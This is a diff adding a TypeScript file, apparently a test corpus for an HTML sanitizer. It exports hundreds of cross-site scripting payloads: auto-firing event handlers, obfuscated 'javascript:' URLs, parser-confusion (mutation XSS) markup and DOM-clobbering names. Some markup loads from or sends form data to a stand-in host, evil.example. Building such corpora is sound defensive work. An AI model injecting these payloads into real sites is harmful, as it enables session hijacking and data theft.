@@ -1,0 +1,366 @@
+/**
+ * Ways to run script in a page, or to have it load something from elsewhere, by what they rest on.
+ * They cover what the public collections do (OWASP's filter evasion cheat sheet, the HTML5 Security
+ * Cheatsheet, PortSwigger's list, DOMPurify's tests), written anew from HTML itself.
+ */
+import naughty from './naughty-strings.json' with { type: 'json' };
+
+const RUN = 'alert(1)';
+const ELSEWHERE = 'https://evil.example';
+const IMAGE = `<img src=x onerror=${RUN}>`;
+const SCRIPT_PAGE = `data:text/html,<script>${RUN}</script>`;
+
+/** Attributes that run by themselves once their element is there. */
+const BY_THEMSELVES = [
+  IMAGE,
+  `<img src=/favicon.svg onload=${RUN}>`,
+  `<image src=x onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg><g onload=${RUN}></g></svg>`,
+  `<svg><image href=x onerror=${RUN}></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:,${RUN}"></script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
+  `<svg><set onbegin=${RUN} attributeName=x to=1></svg>`,
+  `<svg><animatetransform onbegin=${RUN} attributeName=transform>`,
+  `<svg><style>@keyframes x{}</style><g style="animation:x 1s" onanimationstart=${RUN}></g></svg>`,
+  `<math><maction actiontype=statusline onfocus=${RUN} tabindex=1 autofocus>x</maction></math>`,
+  `<body onload=${RUN}>`,
+  `<body onpageshow=${RUN}>`,
+  `<body onfocus=${RUN}>`,
+  `<body onresize=${RUN}>`,
+  `<body onhashchange=${RUN}><a href=#x>x</a>`,
+  `<body onscroll=${RUN}><br><br><input autofocus>`,
+  `<frameset onload=${RUN}>`,
+  `<iframe onload=${RUN}></iframe>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<input autofocus onblur=${RUN}><input autofocus>`,
+  `<select autofocus onfocus=${RUN}></select>`,
+  `<textarea autofocus onfocus=${RUN}></textarea>`,
+  `<button autofocus onfocus=${RUN}>x</button>`,
+  `<keygen autofocus onfocus=${RUN}>`,
+  `<a autofocus tabindex=1 onfocus=${RUN}>x</a>`,
+  `<p autofocus tabindex=1 onfocusin=${RUN}>x</p>`,
+  `<div contenteditable autofocus onfocus=${RUN}>x</div>`,
+  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
+  `<dialog open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`,
+  `<video src=x onerror=${RUN}></video>`,
+  `<video onloadstart=${RUN}><source src=x></video>`,
+  `<video><source src=x onerror=${RUN}></video>`,
+  `<video poster=x controls onratechange=${RUN}>`,
+  `<audio src=x onerror=${RUN}></audio>`,
+  `<audio src=x onloadstart=${RUN}>`,
+  `<video><track default src=x onerror=${RUN}></video>`,
+  `<object data=x onerror=${RUN}></object>`,
+  `<object data="data:text/html,x" onload=${RUN}></object>`,
+  `<embed src=/ onload=${RUN}>`,
+  `<link rel=stylesheet href=/x onload=${RUN} onerror=${RUN}>`,
+  `<link rel=preload as=image href=x onerror=${RUN}>`,
+  `<script src=x onerror=${RUN}></script>`,
+  `<script>${RUN}</script>`,
+  `<script type=module>${RUN}</script>`,
+  `<script src="data:text/javascript,${RUN}"></script>`,
+  `<script src=${ELSEWHERE}/x.js></script>`,
+  `<style onload=${RUN}></style>`,
+  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${RUN}>x</p>`,
+  `<style>p{transition:color 1s}</style><p id=x tabindex=1 ontransitionrun=${RUN}>x</p>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<marquee loop=1 width=0 onfinish=${RUN}>x</marquee>`,
+  `<input type=image src=x onerror=${RUN}>`,
+  `<picture><source srcset=x><img onerror=${RUN}></picture>`,
+  `<img srcset="x 1x" onerror=${RUN}>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv=refresh content="0;url=${SCRIPT_PAGE}">`,
+  `<p oncontentvisibilityautostatechange=${RUN} style="content-visibility:auto">x</p>`,
+  `<x onfocus=${RUN} id=x tabindex=1 autofocus>x</x>`,
+];
+
+/** Events that a reader's hand or a script brings about. */
+// biome-ignore format: one list
+const EVENTS = [
+  'click', 'dblclick', 'auxclick', 'contextmenu', 'mousedown', 'mouseup', 'mouseover', 'mouseout', 'mouseenter',
+  'mouseleave', 'mousemove', 'wheel', 'pointerdown', 'pointerup', 'pointerover', 'pointerenter', 'pointermove',
+  'pointerrawupdate', 'gotpointercapture', 'touchstart', 'touchend', 'touchmove', 'focus', 'focusin', 'blur', 'keydown',
+  'keyup', 'keypress', 'copy', 'cut', 'paste', 'beforecopy', 'dragstart', 'drag', 'dragend', 'dragenter', 'drop', 'scroll',
+  'scrollend', 'select', 'selectstart', 'selectionchange', 'input', 'beforeinput', 'change', 'submit', 'reset', 'invalid',
+  'toggle', 'beforetoggle', 'animationend', 'animationiteration', 'transitionend', 'load', 'error', 'beforematch',
+];
+
+/** What an article may hold, with a handler on it. */
+const HOSTS = ['p', 'a href="/contact"', 'div', 'img src="/favicon.svg"', 'td', 'li', 'h2', 'code'];
+
+const HANDLERS = EVENTS.map((event, place) => {
+  const host = HOSTS[place % HOSTS.length];
+  return `<${host} on${event}=${RUN}>${event}</${host?.split(' ', 1)}>`;
+});
+
+/** Spellings of one scheme that a browser reads as such, or once did. */
+const SCHEMES = [
+  'javascript:',
+  'JaVaScRiPt:',
+  ' javascript:',
+  '\u0001javascript:',
+  '\u001fjavascript:',
+  '&#1;javascript:',
+  'java\tscript:',
+  'java\nscript:',
+  'java\r\nscript:',
+  'java&Tab;script:',
+  'java&NewLine;script:',
+  'java&#x0A;script:',
+  'javascript&colon;',
+  'javascript&#58;',
+  'javascript&#x3a',
+  '&#106;avascript:',
+  '&#0000106&#0000097vascript:',
+  '&#x6A;&#x61;vascript:',
+  'javascript\t:',
+  'javascript:\n//%0a',
+  'javascript://%0a',
+  'javascript:/**/',
+  '\u00a0javascript:',
+  '\u2028javascript:',
+  '\ufeffjavascript:',
+  'java\u00adscript:',
+  'javascript\u0000:',
+  'java\u0000script:',
+  'feed:javascript:',
+  'view-source:javascript:',
+  'vbscript:',
+  'livescript:',
+  'data:text/javascript,',
+];
+
+const LINKS = SCHEMES.map((scheme) => `<a href="${scheme}${RUN}">x</a>`);
+
+/** Attributes that take an address, with one that runs. */
+const ADDRESSES = [
+  ...[`javascript:${RUN}`, SCRIPT_PAGE].flatMap((address) => [
+    `<a href='${address}' target=_blank>x</a>`,
+    `<a href='/' ping='${address}'>x</a>`,
+    `<area href='${address}'>`,
+    `<img src='${address}'>`,
+    `<img src=/favicon.svg usemap=#m><map name=m><area shape=default href='${address}'></map>`,
+    `<iframe src='${address}'></iframe>`,
+    `<frame src='${address}'>`,
+    `<embed src='${address}'>`,
+    `<object data='${address}'></object>`,
+    `<object><param name=src value='${address}'></object>`,
+    `<form action='${address}'><input type=submit></form>`,
+    `<form><button formaction='${address}'>x</button></form>`,
+    `<input type=image formaction='${address}'>`,
+    `<isindex action='${address}'>`,
+    `<base href='${address}//'>`,
+    `<link rel=import href='${address}'>`,
+    `<link rel=stylesheet href='${address}'>`,
+    `<video poster='${address}'></video>`,
+    `<body background='${address}'>`,
+    `<table background='${address}'><td background='${address}'>x</td></table>`,
+    `<bgsound src='${address}'>`,
+    `<blockquote cite='${address}'>x</blockquote>`,
+    `<svg><a href='${address}'><text y=20>x</text></a></svg>`,
+    `<svg><a xlink:href='${address}'><rect width=9 height=9 /></a></svg>`,
+    `<svg><use href='${address}'></use></svg>`,
+    `<svg><a><animate attributeName=href values='${address}'></animate><text y=20>x</text></a></svg>`,
+    `<svg><a><set attributeName=href to='${address}'></set><text y=20>x</text></a></svg>`,
+    `<math href='${address}'>x</math>`,
+    `<math><mi xlink:href='${address}'>x</mi></math>`,
+  ]),
+  `<iframe srcdoc="${IMAGE}"></iframe>`,
+  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
+  `<portal src='javascript:${RUN}'></portal>`,
+  `<fencedframe src='javascript:${RUN}'></fencedframe>`,
+];
+
+/** Tags written as no author writes them. */
+const SPELLINGS = [
+  `<img/src=x/onerror=${RUN}>`,
+  `<img\nsrc=x\nonerror\n=\n${RUN}\n>`,
+  `<img\fsrc=x\fonerror=${RUN}>`,
+  `<img src=x onerror='${RUN}'//>`,
+  `<img src="x"onerror="${RUN}">`,
+  `<img src=x: onerror\t=\t"${RUN}">`,
+  `<IMG SRC=x ONERROR=${RUN}>`,
+  `<img src=x onerror=&#97;lert(1)>`,
+  `<img src=x onerror="&#0000097;lert&lpar;1&rpar;">`,
+  `<img src=x onerror=\\u0061lert(1)>`,
+  '<img src=x onerror=alert`1`>',
+  `<img src=x onerror="window['al'+'ert'](1)">`,
+  `<img """>${IMAGE}">`,
+  `<img src='x" onerror=${RUN} y="'>`,
+  `<img src=\`x\` onerror=${RUN}>`,
+  `<img alt="a" alt=">${IMAGE}" src=x>`,
+  `<img src=x y='>' onerror=${RUN}>`,
+  `<img =">" onerror=${RUN} src=x>`,
+  `<img src=x onerror onerror=${RUN}>`,
+  `<p title='</p>${IMAGE}'>x</p>`,
+  `<p title=></p>${IMAGE}>x</p>`,
+  `<p/onclick=${RUN}>x</p>`,
+  `<p "onclick=${RUN}">x</p>`,
+  `<p onclick\u200b=${RUN}>x</p>`,
+  `<script/x>${RUN}</script/x>`,
+  `<script\n>${RUN}</script\n>`,
+  `<script x=">">${RUN}</script>`,
+  `<SCRIPT>${RUN}</SCRIPT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script<script>>${RUN}</script</script>>`,
+  `<<script>${RUN}//<</script>`,
+  `<\u0000script>${RUN}</script>`,
+  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
+  `\u003cimg src=x onerror=${RUN}\u003e`,
+  `＜img src=x onerror=${RUN}＞`,
+  `‹img src=x onerror=${RUN}›`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
+  `<?x ${IMAGE}?>`,
+  `<!x ${IMAGE}>`,
+  `</ ${IMAGE}>`,
+  `<% ${IMAGE} %>`,
+  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
+];
+
+/** Text in one reading, elements in another: what one parser closes, the next leaves open. */
+const READINGS = [
+  ...['title', 'textarea', 'style', 'xmp', 'noscript', 'noembed', 'noframes', 'iframe'].flatMap(
+    (text) => [
+      `<${text}>${IMAGE}</${text}>`,
+      `<${text}><p title="</${text}>${IMAGE}">x</p></${text}>`,
+      `<${text}><!--</${text}>${IMAGE}--></${text}>`,
+      `<${text}/>${IMAGE}</${text}>`,
+      `<${text}></${text}/>${IMAGE}`,
+      `<${text}></${text} x>${IMAGE}`,
+      `<svg><${text}>${IMAGE}</${text}></svg>`,
+      `<math><${text}>${IMAGE}</${text}></math>`,
+      `<svg><p><${text}><a title="</${text}>${IMAGE}">x</a></${text}></p></svg>`,
+      `<math><mtext><${text}>${IMAGE}</${text}></mtext></math>`,
+      `<select><${text}>${IMAGE}</${text}></select>`,
+      `<p><${text}></p>${IMAGE}</${text}>`,
+    ],
+  ),
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<!--->${IMAGE}-->`,
+  `<!-- --!>${IMAGE}-->`,
+  `<!-- x --x>${IMAGE}-->`,
+  `<!--<!-->${IMAGE}-->`,
+  `<!--[if gte IE 4]>${IMAGE}<![endif]-->`,
+  `<![CDATA[>${IMAGE}]]>`,
+  `<svg><![CDATA[<]]>img src=x onerror=${RUN}></svg>`,
+  `<svg><![CDATA[</svg>${IMAGE}]]></svg>`,
+  `<svg></p><style><a id="</style>${IMAGE}">`,
+  `<svg><foreignObject><p><style><!--</style>${IMAGE}--></style></p></foreignObject></svg>`,
+  `<svg><desc><title>${IMAGE}</title></desc></svg>`,
+  `<svg><title><style>${IMAGE}</style></title></svg>`,
+  `<math><annotation-xml encoding="text/html"><style>${IMAGE}</style></annotation-xml></math>`,
+  `<math><annotation-xml><svg><style>${IMAGE}</style></svg></annotation-xml></math>`,
+  `<math><mtext><table><mglyph><style><math>${IMAGE}</style></mglyph></table></mtext></math>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMAGE}">`,
+  `<math><mtext><malignmark><style>${IMAGE}</style></malignmark></mtext></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}</style>`,
+  `<form><p><form><svg><style>${IMAGE}</style></svg></form></p></form>`,
+  `<table><caption><svg><style>${IMAGE}</style></svg></caption></table>`,
+  `<table><tr><svg><td><style>${IMAGE}</style></td></svg></tr></table>`,
+  `<table><style>${IMAGE}</style><td>x</td></table>`,
+  `<select><option><style></option></select>${IMAGE}</style>`,
+  `<select><template>${IMAGE}</template></select>`,
+  `<template>${IMAGE}</template>`,
+  `<template><style></template>${IMAGE}</style></template>`,
+  `<template shadowrootmode=open>${IMAGE}</template>`,
+  `<p><template shadowrootmode=open><slot onslotchange=${RUN}></slot></template>x</p>`,
+  `<noscript><template></noscript>${IMAGE}</template>`,
+  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
+  `<pre>\n\n&lt;img src=x onerror=${RUN}&gt;</pre>`,
+  `<a><a href='</a>${IMAGE}'></a></a>`,
+  `<p><p title="</p>${IMAGE}">x</p>`,
+  `</p>${IMAGE}</p>`,
+  `</br>${IMAGE}`,
+  `<dl><dt title='</dt>${IMAGE}'>x</dt></dl>`,
+  `<x title="${'</x>'.repeat(9)}${IMAGE}">x</x>`,
+  `${'<div>'.repeat(50)}${IMAGE}`,
+  `${'<svg><desc>'.repeat(20)}${IMAGE}${'</desc></svg>'.repeat(20)}`,
+];
+
+/** What loads or sends without a script. */
+const LOADS = [
+  ...[
+    ELSEWHERE,
+    '//evil.example',
+    '/\\evil.example',
+    'https:evil.example',
+    'http://evil.example',
+  ].flatMap((site) => [
+    `<img src="${site}/a.png">`,
+    `<img src="/favicon.svg" srcset="${site}/a.png 2x">`,
+    `<p style="background:url(${site}/a.png)">x</p>`,
+    `<iframe src="${site}/"></iframe>`,
+  ]),
+  `<picture><source srcset="${ELSEWHERE}/a.png"><img src="/favicon.svg"></picture>`,
+  `<img lowsrc="${ELSEWHERE}/a.png" dynsrc="${ELSEWHERE}/a.png" src="/favicon.svg">`,
+  `<img src="/favicon.svg" crossorigin longdesc="${ELSEWHERE}" attributionsrc="${ELSEWHERE}">`,
+  `<video src="${ELSEWHERE}/a.mp4" poster="${ELSEWHERE}/a.png" autoplay></video>`,
+  `<audio src="${ELSEWHERE}/a.mp3" preload=auto></audio>`,
+  `<video><track default src="${ELSEWHERE}/a.vtt"></video>`,
+  `<embed src="${ELSEWHERE}/"><object data="${ELSEWHERE}/"></object>`,
+  `<input type=image src="${ELSEWHERE}/a.png">`,
+  `<table background="${ELSEWHERE}/a.png"><td>x</td></table>`,
+  `<body background="${ELSEWHERE}/a.png">`,
+  `<style>@import "${ELSEWHERE}/x.css"; p{background:url(${ELSEWHERE}/a.png)}</style>`,
+  `<style>@font-face{font-family:x;src:url(${ELSEWHERE}/x.woff)}p{font-family:x}</style>`,
+  `<link rel=stylesheet href="${ELSEWHERE}/x.css">`,
+  `<link rel=preload as=image href="${ELSEWHERE}/a.png"><link rel=prefetch href="${ELSEWHERE}/">`,
+  `<link rel=preconnect href="${ELSEWHERE}"><link rel=dns-prefetch href="${ELSEWHERE}">`,
+  `<link rel=icon href="${ELSEWHERE}/a.ico"><link rel=manifest href="${ELSEWHERE}/m">`,
+  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/">`,
+  `<base href="${ELSEWHERE}/"><img src="a.png">`,
+  `<svg><image href="${ELSEWHERE}/a.png"></image><use href="${ELSEWHERE}/a.svg#x"></use></svg>`,
+  `<svg><filter id=f><feImage href="${ELSEWHERE}/a.png"></feImage></filter></svg>`,
+  `<form action="${ELSEWHERE}/"><input name=a autofocus><button>x</button></form>`,
+  `<a href="/" ping="${ELSEWHERE}/">x</a>`,
+  `<img src='${ELSEWHERE}/?`,
+  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${ELSEWHERE}/"]}]}</script>`,
+];
+
+/** Names that stand in the way of a page's own script, or cover the page. */
+const NAMES = [
+  ...[
+    'cookie',
+    'body',
+    'forms',
+    'getElementById',
+    'createElement',
+    'currentScript',
+    'defaultView',
+  ].map(
+    (name) => `<img name=${name} src="/favicon.svg"><form id=${name}><input name=${name}></form>`,
+  ),
+  '<a id=location href="/x">x</a><a id=location name=href href="/y">x</a>',
+  '<form id=__proto__><input name=attributes><input name=nodeName></form>',
+  '<p id="__proto__" class="constructor" slot=x is=x part=x>x</p>',
+  '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>',
+  '<div role="dialog" aria-modal="true" tabindex="0">x</div>',
+  '<dialog open style="inset:0">x</dialog><p popover=auto>x</p><button popovertarget=x>x</button>',
+  '<button command=show-modal commandfor=x>x</button><input type=password name=password>',
+];
+
+/** `\xE2\x80\x83` as the characters that these bytes are. */
+function withBytes(text: string): string {
+  return text.replace(/(?:\\x[\da-f]{2})+/gi, (bytes) =>
+    Buffer.from(bytes.replaceAll('\\x', ''), 'hex').toString(),
+  );
+}
+
+/** Each kind, all different from one another. */
+export const VECTORS: readonly string[] = [
+  ...new Set([
+    ...BY_THEMSELVES,
+    ...HANDLERS,
+    ...LINKS,
+    ...ADDRESSES,
+    ...SPELLINGS,
+    ...READINGS,
+    ...LOADS,
+    ...NAMES,
+    ...naughty.strings.map(withBytes),
+  ]),
+];
